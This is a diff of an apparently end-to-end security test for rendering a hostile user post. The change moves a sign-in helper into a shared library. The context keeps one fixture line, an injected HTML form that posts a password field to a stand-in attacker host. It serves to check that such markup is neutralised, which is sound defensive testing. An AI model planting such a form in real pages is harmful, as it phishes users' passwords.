@@ -9,7 +9,7 @@
  * formatting is there (heading and its contents entry, list, links, quote).
  * Screenshot in e2e/screens/security-hostile-post-*.png.
  */
-import { DESKTOP, PHONE, assert, eventually, newPage, screenshot, waitForHydration } from './lib.mjs'
+import { DESKTOP, PHONE, assert, eventually, newPage, screenshot, waitForHydration, signInTo } from './lib.mjs'
 
 const PASSWORD = 'Calma-demo-2026'
 
@@ -31,15 +31,7 @@ const HOSTILE = [
   '<form action="https://evil.example/"><input name="password" placeholder="Tu contraseña"></form>',
 ].join('\n')
 
-async function signIn(page, email, to) {
-  await page.goto(`/login?redirect=${encodeURIComponent(to)}`)
-  await waitForHydration(page)
-  await page.locator('input[name=email]').fill(email)
-  await page.locator('input[name=password]').fill(PASSWORD)
-  await page.getByTestId('login-submit').click()
-  await page.waitForURL((u) => u.pathname === to, { timeout: 10_000 })
-  await waitForHydration(page)
-}
+const signIn = (page, email, to) => signInTo(page, { email, password: PASSWORD, to })
 
 /** Everything the page asks for, every dialog, and any other host's request answered by nobody. */
 async function watch(page, origin) {
